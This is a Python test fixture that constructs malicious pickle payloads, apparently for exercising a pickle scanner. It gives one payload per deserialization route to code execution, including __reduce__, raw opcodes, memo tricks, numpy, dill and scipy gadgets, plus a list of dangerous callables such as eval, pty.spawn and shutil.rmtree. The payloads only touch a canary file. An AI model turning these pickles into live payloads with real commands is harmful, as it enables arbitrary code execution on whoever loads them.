"""Pickles that would touch a canary when they are loaded: one for each way to get there."""

import os
import pickle
import struct
import subprocess
from collections.abc import Iterator


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def name(module: str, attribute: str) -> bytes:
    return text(module) + text(attribute) + b"\x93"


def call(module: str, attribute: str, *arguments: bytes) -> bytes:
    return name(module, attribute) + b"(" + b"".join(arguments) + b"tR"


def pickled(body: bytes, protocol: int = 4) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


class Reduces:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def payloads(canary: str) -> Iterator[tuple[str, bytes]]:
    """Name and bytes of each."""
    command = f"touch {canary}"
    python = f"open({canary!r}, 'w')"
    for protocol in range(6):
        yield f"reduce-{protocol}", pickle.dumps([1, {"model": Reduces(command)}], protocol)
    yield "inst", f"(V{command}\nios\nsystem\n.".encode()
    yield "obj", pickled(b"(" + name("posix", "system") + text(command) + b"o")
    yield "newobj", pickled(name("subprocess", "Popen") + text(command) + b"\x85\x81")
    yield "newobj-ex", pickled(name("subprocess", "Popen") + text(command) + b"\x85}\x92")
    yield (
        "memo",
        b"\x80\x04"
        + text("posix")
        + b"\x94"
        + text("system")
        + b"\x940"
        + b"h\x00h\x01\x93("
        + text(command)
        + b"tR.",
    )
    yield "dotted", pickled(call("numpy", "os.system", text(command)))
    yield "python-2", f"cos\nsystem\n(V{command}\ntR.".encode()
    yield "python-2-builtin", f"c__builtin__\neval\n(V{python}\ntR.".encode()
    yield (
        "python-2-map",
        pickled(call("itertools", "imap", name("os", "system"), b"(" + text(command) + b"t"), protocol=2),
    )
    yield "nested-loads", pickled(call("pickle", "loads", _bytes(pickle.dumps(Reduces(command)))))
    yield "marshal", pickled(call("marshal", "loads", _bytes(b"N")))
    yield "extension", pickled(call("copyreg", "add_extension", text("os"), text("system"), b"K\xf0"))
    yield "build-setstate", pickled(name("os", "environ") + b"}" + text("A") + text("B") + b"sb")
    yield (
        "getattr-chain",
        pickled(
            call(
                "operator",
                "itemgetter",
                text("system"),
            )
            + b"("
            + call("builtins", "getattr", name("functools", "reduce"), text("__globals__"))
            + b"tR"
        ),
    )
    yield "partial", pickled(call("functools", "partial", name("os", "system"), text(command)) + b")R")
    classes = call("builtins", "getattr", name("builtins", "object"), text("__subclasses__")) + b")R"
    at = struct.pack("<i", object.__subclasses__().index(subprocess.Popen))
    popen = call("operator", "itemgetter", b"J" + at) + b"(" + classes + b"tR"
    yield "subclasses", pickled(popen + b"((" + text("touch") + text(canary) + b"ttR")
    named = call("dill._dill", "_create_namedtuple", text("system"), b")", text("os"))
    yield "dill-named-tuple", pickled(named + b"(" + text(command) + b"tR")
    ufunc = call("numpy._core", "_ufunc_reconstruct", text("os"), text("system"))
    yield "numpy-ufunc", pickled(ufunc + b"(" + text(command) + b"tR")
    norm = name("scipy.stats._continuous_distns", "norm_gen") + b")\x81}"
    yield "scipy-template", pickled(norm + text("_parse_arg_template") + text(python) + b"sb")
    for module, attribute in GADGETS:
        yield f"{module}.{attribute}", pickled(call(module, attribute, text(python)))


def _bytes(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


GADGETS = [
    entry.rsplit(".", 1)
    for entry in """
    builtins.eval builtins.exec builtins.compile builtins.__import__ runpy.run_path timeit.timeit pty.spawn
    webbrowser.open code.InteractiveInterpreter pdb.run cProfile.run trace.Trace pip.main pydoc.pipepager
    importlib.import_module pkgutil.resolve_name ctypes.CDLL socket.create_connection shutil.rmtree
    logging.config.dictConfig idlelib.pyshell.ModifiedInterpreter doctest.debug_script asyncio.run
    multiprocessing.util.spawnv_passfds numpy.testing._private.utils.runstring pandas.eval
    sklearn.utils._testing._run_script joblib.numpy_pickle.load operator.attrgetter sys.modules
    types.FunctionType.__get__ collections.namedtuple evil_package.run
    """.split()
]
